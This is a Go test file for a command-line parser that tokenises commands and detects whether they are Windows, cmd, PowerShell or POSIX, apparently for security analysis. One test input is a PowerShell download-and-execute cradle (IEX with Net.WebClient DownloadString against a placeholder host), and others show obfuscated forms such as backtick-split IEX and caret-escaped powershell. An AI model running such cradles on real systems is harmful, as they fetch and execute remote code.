package commandline

import (
	"testing"

	"github.com/google/go-cmp/cmp"
)

// TestWords: the shell, the program and the words of a line.
func TestWords(t *testing.T) {
	for _, c := range []struct {
		text      string
		dialect   Dialect
		program   string
		arguments string
		tokens    []string
	}{
		{`notepad.exe C:\a.txt`, Windows, "notepad.exe", `C:\a.txt`, []string{"notepad.exe", `C:\a.txt`}},
		{`"C:\a b\c.exe" "x y" z\"w`, Windows, `C:\a b\c.exe`, `"x y" z\"w`, []string{`C:\a b\c.exe`, "x y", `z"w`}},
		{`C:\Program Files\a b.exe -x`, Windows, `C:\Program Files\a b.exe`, "-x", []string{`C:\Program Files\a b.exe`, "-x"}},
		{`\??\C:\Windows\system32\conhost.exe 0xffffffff`, Windows, `\??\C:\Windows\system32\conhost.exe`, "0xffffffff", []string{`\??\C:\Windows\system32\conhost.exe`, "0xffffffff"}},
		{`app.exe http://x/?a=b&c=d | x`, Windows, "app.exe", `http://x/?a=b&c=d | x`, []string{"app.exe", "http://x/?a=b&c=d", "|", "x"}},
		{`cmd /c "dir & echo x>y"`, Cmd, "cmd", `/c "dir & echo x>y"`, []string{"cmd", "/c", "dir", "&", "echo", "x", ">", "y"}},
		{`cmd.exe /cecho hi`, Cmd, "cmd.exe", "/cecho hi", []string{"cmd.exe", "/c", "echo", "hi"}},
		{
			`powershell -w 1 -c "Get-Service "seg1" | select -Expand X |out-file a.txt"`, PowerShell, "powershell", `-w 1 -c "Get-Service "seg1" | select -Expand X |out-file a.txt"`,
			[]string{"powershell", "-w", "1", "-c", "Get-Service", "seg1", "|", "select", "-Expand", "X", "|", "out-file", "a.txt"},
		},
		{`powershell -File a.ps1 -c x`, PowerShell, "powershell", "-File a.ps1 -c x", []string{"powershell", "-File", "a.ps1", "-c", "x"}},
		{
			`IEX(New-Object Net.WebClient).DownloadString("http://x")`, PowerShell, "IEX", `(New-Object Net.WebClient).DownloadString("http://x")`,
			[]string{"IEX", "New-Object", "Net.WebClient", ".DownloadString", "http://x"},
		},
		{`A=1 sudo -u bob /usr/bin/id;echo "a  b" 'c'\ d`, POSIX, "sudo", `-u bob /usr/bin/id;echo "a  b" 'c'\ d`, []string{"A=1", "sudo", "-u", "bob", "/usr/bin/id", ";", "echo", "a  b", "c d"}},
		{`bash -lc 'ls | wc -l'`, POSIX, "bash", `-lc 'ls | wc -l'`, []string{"bash", "-lc", "ls", "|", "wc", "-l"}},
		{"", Unknown, "", "", nil},
		{"  \t", Unknown, "", "", nil},
		{`net  view`, Unknown, "net", "view", []string{"net", "view"}},
	} {
		got := New(DefaultLimits()).Analyze(c.text, Unknown)
		if got.Dialect != c.dialect || got.Program != c.program || got.Arguments != c.arguments {
			t.Errorf("%s: got %s %q %q, want %s %q %q", c.text, got.Dialect, got.Program, got.Arguments, c.dialect, c.program, c.arguments)
		}
		if len(got.Tokens) == 0 {
			got.Tokens = nil
		}
		if diff := cmp.Diff(c.tokens, got.Tokens); diff != "" {
			t.Errorf("%s (- wanted, + got):\n%s", c.text, diff)
		}
	}
}

func TestDialectNames(t *testing.T) {
	for d := Unknown; d <= POSIX; d++ {
		if got, err := ParseDialect(d.String()); got != d || err != nil {
			t.Errorf("%s is read as %s, %v", d, got, err)
		}
	}
	if _, err := ParseDialect("fish"); err == nil {
		t.Error("fish is accepted")
	}
	c := New(DefaultLimits()).Analyze("I`E`X x", Cmd)
	if c.Readable != "I`E`X x" || c.Dialect != Cmd {
		t.Errorf("told to be cmd, it is %s: %s", c.Dialect, c.Readable)
	}
}

func TestDetect(t *testing.T) {
	for text, want := range map[string]Dialect{
		"p^owershell x": Cmd, `"C:\Windows\SYSTEM32\CMD.EXE" /c x`: Cmd, "%COMSPEC% /c x": Cmd, "PwSh -c x": PowerShell,
		"Get-Process | Stop-Process": PowerShell, "$a = 1": PowerShell, "[char]65": PowerShell, "{$_.Name}": PowerShell,
		"function f($x){ $x }": PowerShell, "for i in 1 2; do $i; done": POSIX, "/usr/bin/id": POSIX, "./a.out": POSIX, "c\\at x": POSIX,
		"chmod +x a": POSIX, `\\srv\share\a.exe`: Windows, "a.exe x": Windows, "whoami": Unknown, "dir && echo x": Cmd,
	} {
		if got := detect(text); got != want {
			t.Errorf("%s is %s, want %s", text, got, want)
		}
	}
}
